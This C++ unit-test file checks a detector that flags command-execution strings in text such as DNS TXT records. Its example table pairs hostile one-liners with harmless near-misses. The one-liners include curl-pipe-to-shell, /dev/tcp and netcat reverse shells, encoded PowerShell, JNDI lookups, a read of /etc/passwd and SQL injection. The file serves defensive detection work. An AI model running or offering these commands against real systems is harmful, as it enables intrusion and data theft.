#include "core/rules/detect/execution_strings.h"

#include <gtest/gtest.h>

#include <map>
#include <memory>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "core/rules/detect/execution_rules.h"
#include "core/rules/match/bytewise_re2.h"
#include "tests/support/random.h"

namespace txtsentry::rules {
namespace {

const ExecutionStrings& Strings() {
  static const ExecutionStrings* const strings = new ExecutionStrings();
  return *strings;
}

struct Example {
  std::string match;
  std::string near_miss;  // The same words without execution.
};

std::map<std::string, Example> Examples() {
  return {
      {"powershell_encoded", {"powershell.exe -nop -w hidden -enc SQBFAFgA", "powershell"}},
      {"invoke_expression", {"IEX (New-Object Net.WebClient)", "the iexplore browser"}},
      {"download_string", {"$c.DownloadString('x')", "download strings of lights"}},
      {"powershell", {"powershell -c x", "powershellgallery"}},
      {"powershell_cmdlet", {"Get-WmiObject Win32", "get-well cards"}},
      {"nslookup_cradle", {"nslookup -q=txt a.example", "nslookup works"}},
      {"cmd_exe", {"cmd /c calc", "cmdlets"}},
      {"mshta", {"mshta x", "mshtanka"}},
      {"certutil", {"certutil -urlcache -f x", "certutility"}},
      {"regsvr32", {"regsvr32 /s x", "regsvr"}},
      {"rundll32", {"rundll32 x.dll,Start", "rundll"}},
      {"bitsadmin", {"bitsadmin /transfer a", "bits admin"}},
      {"forfiles", {"forfiles /p c:\\windows /m notepad.exe", "forfiles and folders"}},
      {"wscript", {"wscript.shell", "manuscript"}},
      {"wmic", {"wmic process call create", "wmi"}},
      {"scheduled_task", {"schtasks /create /tn a", "tasks"}},
      {"fetch_pipe_shell", {"curl -s http://192.0.2.1/a | sh", "curl is a tool"}},
      {"fetch", {"wget http://192.0.2.1/a", "wget"}},
      {"shell_substitution", {"bash -c id", "bash"}},
      {"dev_tcp", {"cat </dev/tcp/192.0.2.1/4444", "/dev/null"}},
      {"netcat", {"nc -e /x 192.0.2.1 4444", "nc state"}},
      {"base64_pipe_shell", {"echo aWQK | base64 -d", "base64 text"}},
      {"python_exec", {"python3 -c 'x'", "python 3"}},
      {"script_eval", {"eval(atob('x'))", "evaluation"}},
      {"script_tag", {"<script src=//x.example>", "scripts"}},
      {"jndi_lookup", {"${jndi:ldap://192.0.2.1/a}", "jndi"}},
      {"template_expression", {"{{7*7}}", "{{name}}"}},
      {"shellshock", {"() { :; }; x", "() {"}},
      {"shell_command", {"; cat /etc/passwd", "a cat"}},
      {"sql_injection", {"' OR '1'='1", "this or that"}},
      {"program_path", {"https://192.0.2.1/payload.ps1", "payload ps1"}},
      {"tasking", {"cmd=download;url=x", "cmd=none"}},
  };
}

// The oracle matches one RE2 expression at a time.
TEST(ExecutionStringsTest, FindsTheFirstRuleOfTheTableThatMatches) {
  RE2::Options options = BytewiseOptions();
  options.set_dot_nl(true);
  std::vector<std::unique_ptr<const RE2>> expressions;
  for (const ExecutionRule& rule : ExecutionRules()) {
    expressions.push_back(std::make_unique<const RE2>(rule.expression, options));
  }
  std::vector<std::string> pieces;
  for (const auto& [name, example] : Examples()) {
    pieces.push_back(example.match);
    pieces.push_back(example.near_miss);
  }
  test::Random random(12);
  const auto piece = [&] {
    const std::string& text = pieces[random.Between(0, static_cast<int64_t>(pieces.size()) - 1)];
    return text.substr(0, random.Between(0, static_cast<int64_t>(text.size())));
  };
  int found = 0;
  for (int i = 0; i < 5000; ++i) {
    const std::string text = piece() + std::string(random.Between(0, 1), ' ') + piece() + piece();
    // Texts with these characters are also searched without them.
    if (text.find_first_of("^`'\"+") != text.npos) continue;
    size_t first = 0;
    while (first < expressions.size() && !RE2::PartialMatch(text, *expressions[first])) ++first;
    const std::string_view expected =
        first < expressions.size() ? ExecutionRules()[first].name : std::string_view();
    ASSERT_EQ(Strings().Find(text), expected) << text;
    if (!expected.empty()) ++found;
  }
  EXPECT_GT(found, 500);
}

TEST(ExecutionStringsTest, EveryRuleHasAMatchAndANearMiss) {
  ASSERT_EQ(Strings().status().ToString(), "OK");
  const auto examples = Examples();
  std::set<std::string> names;
  for (const ExecutionRule& rule : ExecutionRules()) {
    names.insert(rule.name);
    const auto example = examples.find(rule.name);
    ASSERT_NE(example, examples.end()) << rule.name << " has no examples";
    EXPECT_EQ(Strings().Find(example->second.match), rule.name);
    EXPECT_EQ(Strings().Find("note " + example->second.near_miss), "") << rule.name;
  }
  EXPECT_EQ(names.size(), ExecutionRules().size());
  EXPECT_EQ(names.size(), examples.size());
}

TEST(ExecutionStringsTest, IgnoresCaseAndSplitting) {
  for (const char* text :
       {"I^EX (x)", "iE`X(x)", "po^wer^shell -c x", "p\"ow\"ershell -c x", "'I'+'EX' (x)",
        "Invoke-Expre`ssion x", "DOWNLOADSTRING('x')", "c^m^d /c x", "MsHtA x"}) {
    EXPECT_NE(Strings().Find(text), "") << text;
  }
}

TEST(ExecutionStringsTest, FindsTheStringsOfThePublicDetectionRule) {
  for (const char* text : {"IEX", "x;IEX $a", "Invoke-Expression", "cmd.exe"}) {
    EXPECT_NE(Strings().Find(text), "") << text;
  }
}

TEST(ExecutionStringsTest, IgnoresRecordsOfKnownKinds) {
  for (const char* text :
       {"v=spf1 exists:%{i}._spf.example.com include:%{d}.c7.example.net -all",
        "v=DMARC1; p=none; rua=mailto:dmarc@example.com",
        "google-site-verification=TYDOFECsuF7V6Op8q3NOr2mg3padTKn6j3GL2nwrDJU",
        "google-site-verification=ab-IEX-cuF7V6Op8q3NOr2mg3padTKn6j3GL2nwrDJ",
        "v=STSv1; id=20160831085700Z;", "https://www.example.com/docs/cmd", "1.2.3.4",
        "heritage=external-dns,external-dns/owner=default,external-dns/resource=ingress/a/b",
        "23028 | US | arin | 2002-01-04 | TEAM-CYMRU, US"}) {
    EXPECT_EQ(Strings().Find(text), "") << text;
  }
}

TEST(ExecutionStringsTest, HandlesTheLargestHostileTexts) {
  for (const char* unit :
       {"curl ", "powershell -", "`", "a^", "<script", "${", "{{", "\xff", " iex"}) {
    std::string text;
    while (text.size() < 65'535) text += unit;
    Strings().Find(text);
  }
}

}  // namespace
}  // namespace txtsentry::rules
